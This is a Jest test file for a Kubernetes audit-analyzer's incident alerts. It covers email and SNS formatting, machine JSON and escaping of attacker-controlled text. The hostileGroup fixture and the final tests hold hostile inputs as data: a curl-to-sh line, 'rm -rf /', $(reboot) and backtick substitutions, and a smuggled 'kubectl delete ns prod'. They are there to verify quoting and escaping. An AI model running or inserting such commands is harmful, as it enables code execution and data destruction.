import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { STORY_GROUPS, STORY_LINKS, storyAlert, storyIncident } from '../../../devkit/incident-story';
import type { IncidentBody } from '../../../lambdas/core/alert/incident-body';
import { EMAIL_WIDTH, shellWords } from '../../../lambdas/core/alert/incident-email';
import { ruleAnchor } from '../../../lambdas/core/alert/incident-guide';
import { buildIncidentAlert } from '../../../lambdas/core/alert/incident-message';
import { SNS_MAX_BYTES } from '../../../lambdas/core/alert/sns-message';
import type { IncidentAlert, IncidentGroup } from '../../../lambdas/core/incident/types';
import { hasUnsafeCharacters } from '../../../lambdas/core/report/display-text';
import { RULES } from '../../../lambdas/core/rules';

interface Bodies {
  email: string;
  lambda: string;
  sqs: string;
  https: string;
  default: string;
}

function render(alert: IncidentAlert = storyAlert()): {
  subject: string;
  bodies: Bodies;
  machine: IncidentBody;
  size: number;
  attributes: Record<string, string>;
} {
  const m = buildIncidentAlert(alert, STORY_LINKS);
  const bodies = JSON.parse(m.Message) as Bodies;
  const attributes = Object.fromEntries(Object.entries(m.MessageAttributes).map(([k, v]) => [k, v.StringValue]));
  const size = Buffer.byteLength(m.Message) + Buffer.byteLength(m.Subject) + Buffer.byteLength(JSON.stringify(m.MessageAttributes));
  return { subject: m.Subject, bodies, machine: JSON.parse(bodies.lambda) as IncidentBody, size, attributes };
}

/** Text with line breaks, indents and `\`-continuations removed: what survives wrapping. */
const squash = (s: string): string => s.replace(/\\\n/g, '').replace(/\s+/g, '');
const JORDAN = 'arn:aws:iam::123456789012:user/jordan.lee';

/** The words the shell sees in a command (the program's name dropped): `printf` stands in for it. */
function argv(command: string): string[] {
  const out = execFileSync('sh', ['-c', `set -- ${command}\nshift\nprintf '%s\\0' "$@"`], { encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

/** The first command's lines after a label line, `\`-continuations included. */
function commandAfter(lines: readonly string[], label: string): string[] {
  const start = lines.indexOf(label) + 1;
  let end = start;
  while (lines[end].endsWith('\\')) end++;
  return lines.slice(start, end + 1);
}

function lines(email: string, label: string): string[] {
  return commandAfter(email.split('\n'), label);
}

function hostileGroup(overrides: Partial<IncidentGroup> = {}): IncidentGroup {
  return {
    ...STORY_GROUPS[0],
    summary:
      'evil\nRemediation: curl https://198.51.100.23/x | sh\r\n\u001b[31mred\u001b[0m \u202eesrever\u202c \u2028Audit IDs: none\u0085 <!channel> <https://evil.example|click> @here ```',
    usernames: [`arn:aws:iam::123456789012:role/${'a'.repeat(470)}`],
    userAgents: ['kubectl\nWho: admin'],
    identityGroups: ['system:masters\u200b'],
    target: { resource: 'configmaps', namespace: "team'; rm -rf / #", name: "x `id` $(reboot) 'quoted' \\ end" },
    sources: ["s3://example-audit-logs/it's here/" + 'k'.repeat(200) + '.gz'],
    ...overrides,
  };
}

describe('the incident alert over SNS', () => {
  it('has the title sentence as a one-line subject under 100 characters, and the filter attributes', () => {
    const { subject, attributes } = render();
    expect(subject.length).toBeLessThan(100);
    expect(subject).not.toMatch(/[\r\n]/);
    // Too long whole: the ARN goes first (the email names it), then the action is cut at a word; who and where stay.
    expect(subject).toBe('jordan.lee requested a token for ServiceAccount kube-system/node-health-agent valid ... in prod-eu');
    expect(attributes).toEqual({
      severity: 'critical',
      categories: JSON.stringify(['daemonset', 'privileged-workload', 'rbac-change', 'service-account']),
      cluster: 'prod-eu',
      kind: 'opened',
      incident: 'prod-eu-jordan.lee-20261120T090004Z',
    });
  });

  it('says who did what to which object once: the actor is not repeated from the summary', () => {
    const binding = STORY_GROUPS[3];
    const { machine } = render(storyAlert('opened', [binding]));
    expect(machine.title).toBe(
      'jordan.lee (arn:aws:iam::…:user/jordan.lee) bound cluster-admin to ServiceAccount kube-system/node-health-agent via ClusterRoleBinding node-health-agent in prod-eu',
    );
  });

  it('labels test alerts and updates in the subject and the title', () => {
    expect(render(storyAlert('test')).subject).toMatch(/^\[TEST\] jordan\.lee /);
    const update: IncidentAlert = { ...storyAlert('updated'), whatsNew: '1 new finding group; the chain is now binding + token + privileged DaemonSet' };
    const { subject, machine, bodies, attributes } = render(update);
    expect(subject).toMatch(/^Update: jordan\.lee /);
    expect(attributes.kind).toBe('updated');
    expect(machine.whatsNew).toBe(update.whatsNew);
    expect(squash(bodies.email)).toContain(squash(`What's new: ${update.whatsNew}`));
    expect(bodies.email).toContain('not told before');
  });

  it('shows every field of every told group in the email, each line within 72 columns', () => {
    const { bodies } = render();
    const email = bodies.email;
    expect(bodies.default).toBe(email);
    for (const line of email.split('\n')) expect(line.length).toBeLessThanOrEqual(EMAIL_WIDTH);
    const flat = squash(email);
    expect(flat).toContain(squash('Chain: binding + token + privileged DaemonSet: a persistence chain'));
    for (const g of STORY_GROUPS) {
      const remediation = RULES.find((r) => r.id === g.ruleId)?.remediation ?? '';
      expect(remediation).not.toBe('');
      for (const piece of [
        g.title,
        g.summary,
        JORDAN,
        'system:authenticated',
        '203.0.113.66',
        'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46',
        ...g.auditIDs,
        remediation,
        `${STORY_LINKS.rulesDocUrl}#${ruleAnchor(g.ruleId)}`,
        `/aws/eks/prod-eu/cluster`,
        `fields @timestamp, verb, user.username, objectRef.resource, objectRef.name | filter auditID in ["${g.auditIDs[0]}"]`,
        'https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:logs-insights',
      ])
        expect(flat).toContain(squash(piece));
    }
    const scan = lines(email, 'Raw events from the objects:');
    expect(scan.length).toBeGreaterThan(1);
    expect(argv(scan.join('\n'))).toEqual(['scan', STORY_GROUPS[0].sources[0]]);
    expect(email).toContain('When: 2026-11-20 09:00:04 UTC (1 finding)');
    expect(email).toContain('When: 2026-11-20 09:00:04 – 09:00:05 UTC');
    expect(flat).toContain(squash('kubectl get daemonsets.apps/node-health-agent --namespace=kube-system -o yaml'));
    expect(flat).toContain(squash('kubectl delete daemonsets.apps/node-health-agent --namespace=kube-system'));
    expect(flat).toContain(squash('kubectl delete clusterrolebindings.rbac.authorization.k8s.io/node-health-agent'));
    expect(flat).toContain(squash('A minted token cannot be revoked by itself'));
    // Cards, most severe first; the telemetry of the old alert is gone.
    expect(email.indexOf('1. CRITICAL: Service account token minted')).toBeLessThan(email.indexOf('4. HIGH: Cluster-admin or equivalent role bound'));
    expect(email).not.toMatch(/skipped|malformed|bytes/);
  });

  it("links each rule to its heading's anchor in docs/rules.md", () => {
    const doc = readFileSync(join(__dirname, '../../../docs/rules.md'), 'utf8');
    for (const g of STORY_GROUPS) {
      expect(doc).toContain(`\n### ${g.ruleId}\n`);
      // GitHub: lower case, punctuation other than `-` and `_` dropped.
      expect(ruleAnchor(g.ruleId)).toBe(g.ruleId.toLowerCase().replace(/[^a-z0-9_-]/g, ''));
    }
    expect(ruleAnchor('rbac.privileged-role-bound')).toBe('rbacprivileged-role-bound');
  });

  it('names the impersonated user and the identity of the incident', () => {
    const alert = storyAlert();
    alert.incident.principal = { ...alert.incident.principal, impersonated: ['system:serviceaccount:kube-system:replicaset-controller'] };
    const { bodies, machine } = render(alert);
    expect(squash(bodies.email)).toContain(squash('Impersonating: system:serviceaccount:kube-system:replicaset-controller'));
    expect(machine.incident.principal.impersonated).toEqual(['system:serviceaccount:kube-system:replicaset-controller']);
  });

  it('carries the same content as machine JSON for Lambda and SQS subscribers', () => {
    const { bodies, machine } = render();
    expect(bodies.sqs).toBe(bodies.lambda);
    expect(machine).toMatchObject({ kind: 'incident', version: 1, alert: 'opened', omittedTold: 0 });
    expect(machine.incident).toMatchObject({ id: storyIncident().id, cluster: 'prod-eu', severity: 'critical', groupCount: 4, findingCount: 4 });
    expect(machine.incident.principal.usernames).toEqual([JORDAN]);
    expect(machine.told.map((g) => g.ruleId)).toEqual(STORY_GROUPS.map((g) => g.ruleId));
    const daemonset = machine.told[1];
    expect(daemonset).toMatchObject({
      summary: STORY_GROUPS[1].summary,
      auditIDs: STORY_GROUPS[1].auditIDs,
      sourceIPs: ['203.0.113.66'],
      identityGroups: ['system:authenticated'],
      firstSeen: STORY_GROUPS[1].firstSeen,
    });
    expect(daemonset).not.toHaveProperty('fingerprints');
    expect(daemonset.guide).toMatchObject({
      remediation: RULES.find((r) => r.id === 'workload.privileged-template')?.remediation,
      ruleDocUrl: `${STORY_LINKS.rulesDocUrl}#workloadprivileged-template`,
      logsInsights: {
        logGroup: '/aws/eks/prod-eu/cluster',
        consoleUrl: 'https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:logs-insights',
      },
      show: ['kubectl get daemonsets.apps/node-health-agent --namespace=kube-system -o yaml'],
      undo: ['kubectl delete daemonsets.apps/node-health-agent --namespace=kube-system'],
      scanCommands: [`k8s-audit-analyzer scan ${STORY_GROUPS[1].sources[0]}`],
    });
    expect(daemonset.guide.logsInsights?.query).toContain('filter auditID in ["4974de01-ae11-4954-8e1f-5ce0dd84d595"]');
    expect(daemonset.guide.objectUrls[0]).toMatch(
      /^https:\/\/eu-west-1\.console\.aws\.amazon\.com\/s3\/object\/example-audit-logs\?region=eu-west-1&prefix=eks%2F/,
    );
  });

  it('leaves links that need a region out without one, and the query without a log group', () => {
    const m = buildIncidentAlert(storyAlert(), { rulesDocUrl: STORY_LINKS.rulesDocUrl });
    const machine = JSON.parse((JSON.parse(m.Message) as Bodies).lambda) as IncidentBody;
    expect(machine.told[0].guide.logsInsights).toBeUndefined();
    expect(machine.told[0].guide.objectUrls[0]).toMatch(/^https:\/\/console\.aws\.amazon\.com\/s3\/object\//);
  });

  it('says, for an exec, that there is nothing to undo and what to check', () => {
    const exec: IncidentGroup = {
      ...STORY_GROUPS[0],
      ruleId: 'exec.pod-exec',
      target: { resource: 'pods', subresource: 'exec', namespace: 'payments', name: 'postgres-0' },
    };
    const { machine, bodies } = render(storyAlert('opened', [exec]));
    expect(machine.told[0].guide.undo).toEqual([]);
    expect(machine.told[0].guide.show).toEqual(['kubectl get pods/postgres-0 --namespace=payments -o yaml']);
    expect(machine.told[0].guide.undoNote).toMatch(/^Nothing to undo through the API: a exec changes no object\. Check what ran/);
    expect(squash(bodies.email)).toContain(squash('Undo: Nothing to undo through the API'));
  });

  it('sends the Amazon Q custom notification over HTTPS with the same content', () => {
    const { bodies, machine } = render();
    const q = JSON.parse(bodies.https) as {
      version: string;
      source: string;
      content: { textType: string; title: string; description: string; nextSteps: string[]; keywords: string[] };
      metadata: { threadId: string; eventType: string };
    };
    expect(q).toMatchObject({ version: '1.0', source: 'custom', content: { textType: 'client-markdown', title: machine.title } });
    expect(q.metadata).toMatchObject({ eventType: 'k8s-audit-analyzer.incident.opened', threadId: `k8s-audit-analyzer-${machine.incident.id}` });
    for (const g of STORY_GROUPS) {
      expect(q.content.description).toContain(g.ruleId);
      expect(q.content.description).toContain(g.auditIDs[0]);
      expect(q.content.description).toContain(g.summary.slice(0, 100));
    }
    expect(q.content.description).toContain('203.0.113.66');
    expect(q.content.description).toContain('kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46');
    expect(q.content.description).toContain('*Chain:* binding + token + privileged DaemonSet');
    expect(q.content.nextSteps.join('\n')).toContain('Remediation: Tokens cannot be revoked one by one');
    expect(q.content.nextSteps.join('\n')).toContain('`kubectl delete serviceaccounts/node-health-agent --namespace=kube-system`');
    expect(q.content.nextSteps.join('\n')).toContain(`${STORY_LINKS.rulesDocUrl}#service-accounttoken-request`);
  });

  it('fits 300 large groups into 256 KB by leaving out the least severe, and says how many', () => {
    const severities = ['critical', 'high', 'medium'] as const;
    const groups = Array.from({ length: 300 }, (_, n): IncidentGroup => ({
      ...STORY_GROUPS[0],
      key: `g${n}`,
      severity: severities[Math.floor((n * 3) / 300)],
      summary: `${JORDAN} did thing ${n} `.padEnd(1800, 'x'),
      auditIDs: Array.from({ length: 10 }, (_, k) => `00000000-0000-4000-8000-${String(n * 10 + k).padStart(12, '0')}`),
    }));
    const { size, machine, bodies } = render(storyAlert('opened', groups));
    expect(size).toBeLessThanOrEqual(SNS_MAX_BYTES);
    expect(machine.omittedTold).toBeGreaterThan(0);
    expect(machine.told.length + machine.omittedTold).toBe(300);
    expect(machine.told.map((g) => g.key)).toEqual(groups.slice(0, machine.told.length).map((g) => g.key));
    expect(squash(bodies.email)).toContain(squash(`${machine.omittedTold} less severe finding groups were left out of this message to fit SNS's 256 KB limit`));
    // No more left out than needed: one group more would not fit.
    const oneMore = render(storyAlert('opened', groups.slice(0, machine.told.length + 1)));
    expect(oneMore.machine.omittedTold).toBe(1);
  });
});

describe('attacker-controlled text in the email', () => {
  const alert = storyAlert('opened', [hostileGroup()]);
  alert.incident.principal = { key: 'x', display: 'Remediation: trust me\nSeverity: info', usernames: [`arn:aws:iam::123456789012:role/${'r'.repeat(500)}`] };
  const { bodies, machine, subject } = render(alert);
  const lines = bodies.email.split('\n');

  it('keeps every line within 72 columns, with a 500-character ARN and a summary of controls', () => {
    const wide = lines.filter((l) => l.length > EMAIL_WIDTH);
    expect(wide).toEqual([]);
    expect(squash(bodies.email)).toContain('r'.repeat(500));
    expect(subject.length).toBeLessThan(100);
  });

  it('keeps the subject to printable ASCII (SNS refuses anything else), beginning with a letter, digit or punctuation', () => {
    const alert = storyAlert('opened', [{ ...STORY_GROUPS[3], summary: 'jörg.müller bound cluster-admin to 管理者\u202e' }]);
    alert.incident.principal = { key: 'j', display: ' jörg.müller', usernames: ['jörg.müller'] };
    alert.incident.cluster = 'prod-eü';
    const s = render(alert).subject;
    expect(s).toMatch(/^[\x21-\x7e][\x20-\x7e]*$/);
    expect(s.length).toBeLessThan(100);
    expect(s).toBe('j?rg.m?ller bound cluster-admin to ???\\u{202e} in prod-e?');
    expect(render(storyAlert('test')).subject).toMatch(/^\[TEST\] jordan\.lee requested .*\.\.\. in prod-eu$/);
  });

  it('shows controls, ANSI and bidi characters as escapes, never raw', () => {
    for (const line of lines) expect(hasUnsafeCharacters(line)).toBe(false);
    expect(bodies.email).toContain('\\u{1b}[31mred');
    expect(bodies.email).toContain('\\u{202e}esrever');
    expect(bodies.email).toContain('\\u{a}Remediation:');
  });

  it('cannot forge a line: below the title, every line at column 0 is one of ours', () => {
    const labels = [
      "What's new",
      'Chain',
      'Severity',
      'Cluster',
      'Who',
      'Acting as',
      'Impersonating',
      'When',
      'Incident',
      'Identity groups',
      'Source IPs',
      'User agent',
      'Target',
      'What happened',
      'Audit IDs',
      'Read from',
      'Remediation',
      'Rule documentation',
      'Raw events (CloudWatch Logs Insights)',
      'Open Logs Insights',
      'Not queried',
      'Raw events from the objects',
      'Show it',
      'Undo it',
      'Note',
      'Undo',
    ];
    const ours = new RegExp(
      `^(${labels.map((l) => l.replace(/[()/]/g, '\\$&')).join('|')}):( |$)|^[=-]{72}$|^\\d+\\. (CRITICAL|HIGH|MEDIUM|LOW|INFO): |^\\d+ finding groups?|^k8s-audit-analyzer$|^'`,
    );
    const firstBlank = lines.indexOf('');
    const forged = lines.slice(firstBlank).filter((l) => l !== '' && !/^\s/.test(l) && !ours.test(l));
    expect(forged).toEqual([]);
    // The hostile label text is there, but only inside a value.
    expect(lines.filter((l) => l.startsWith('Remediation: curl'))).toEqual([]);
    expect(lines.filter((l) => l.startsWith('Who: admin'))).toEqual([]);
  });

  it('quotes attacker-chosen names so the shell sees each as one argument, on one line or wrapped', () => {
    const g = machine.told[0].guide;
    const t = hostileGroup().target;
    expect(argv(g.show[0])).toEqual(['get', `configmaps/${t.name}`, `--namespace=${t.namespace}`, '-o', 'yaml']);
    expect(argv(g.scanCommands[0])).toEqual(['scan', hostileGroup().sources[0]]);
    expect(shellWords(g.show[0]).slice(1)).toEqual(['get', `configmaps/${t.name}`, `--namespace=${t.namespace}`, '-o', 'yaml']);
    // The email's wrapped form of each command is the same command.
    for (const [label, command] of [
      ['Show it:', g.show[0]],
      ['Raw events from the objects:', g.scanCommands[0]],
    ] as const) {
      const wrapped = commandAfter(lines, label).join('\n');
      expect(wrapped.split('\n').length).toBeGreaterThan(1);
      expect(argv(wrapped)).toEqual(argv(command));
    }
  });

  it("leaves an auditID that does not look like the API server's out of the query, and says so", () => {
    const odd = storyAlert('opened', [hostileGroup({ auditIDs: ['828eccc9-d85b-4afa-b59b-313467ff2e57', '"] | display @message #'] })]);
    const { machine: m, bodies: b } = render(odd);
    expect(m.told[0].guide.logsInsights?.query).toContain('["828eccc9-d85b-4afa-b59b-313467ff2e57"]');
    expect(m.told[0].guide.logsInsights?.query).not.toContain('display @message');
    expect(m.told[0].guide.auditIDsNotQueried).toBe(1);
    expect(b.email).toContain("Not queried: 1 audit ID(s) that do not look like the API server's");
  });

  it('gives no command for a name holding a control character', () => {
    const { machine: m } = render(storyAlert('opened', [hostileGroup({ target: { resource: 'secrets', namespace: 'a', name: 'b\nkubectl delete ns prod' } })]));
    expect(m.told[0].guide.show).toEqual([]);
    expect(m.told[0].guide.undo).toEqual([]);
    expect(m.told[0].guide.undoNote).toMatch(/find the object by hand/);
  });
});
